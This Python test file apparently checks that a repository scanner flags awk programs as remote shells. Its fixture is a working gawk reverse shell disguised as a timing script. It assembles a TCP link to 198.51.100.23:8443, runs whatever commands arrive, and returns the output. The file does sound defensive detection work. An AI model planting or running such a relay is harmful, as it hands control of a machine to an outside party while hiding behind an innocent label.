"""An awk program file is read as the awk program it is: a socket special file whose peer is put
together from string pieces, and commands run from what the socket sends."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_RELAY = """# collects timings for the report
function peer(a, b) { return a b }
BEGIN {
    host = "198.51" ".100.23"
    port = 8443
    link = "/inet/tcp/0/" host "/" port
    for (;;) {
        if ((link |& getline order) <= 0) break
        order | getline reply
        print reply |& link
    }
}
"""


def test_an_awk_file_serving_commands_over_a_socket_is_a_remote_shell(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {"tools/timing.awk": _RELAY})
    assert {rule for rule, _, _ in errors} == {"REMOTE_SHELL"}


def test_an_awk_script_with_its_own_shebang_is_read_too(tmp_path: Path) -> None:
    script = "#!/usr/bin/gawk -f\n" + _RELAY.split("\n", 1)[1]
    errors = scan_errors(tmp_path, {"bin/timing": script})
    assert {rule for rule, _, _ in errors} == {"REMOTE_SHELL"}


def test_an_ordinary_awk_report_stays_quiet(tmp_path: Path) -> None:
    report = (
        "# sums the second column per key\n"
        'BEGIN { FS = ","; out = "totals-" strftime("%F") ".csv" }\n'
        "{ total[$1] += $2 }\n"
        'END { for (k in total) print k, total[k] > out; "date" | getline today; print today }\n'
    )
    assert scan_errors(tmp_path, {"tools/sum.awk": report}) == set()
